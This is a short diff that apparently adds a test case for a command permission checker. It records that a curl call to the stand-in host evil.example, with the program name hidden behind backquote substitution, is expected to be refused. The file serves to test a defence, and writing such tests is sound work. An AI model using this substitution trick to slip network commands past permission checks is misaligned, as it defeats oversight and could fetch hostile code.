@@ -1,0 +1,3 @@
+# Trick: the program is printed by a substitution in backquotes.
+# Refused: run(*)
+`echo curl` http://evil.example/
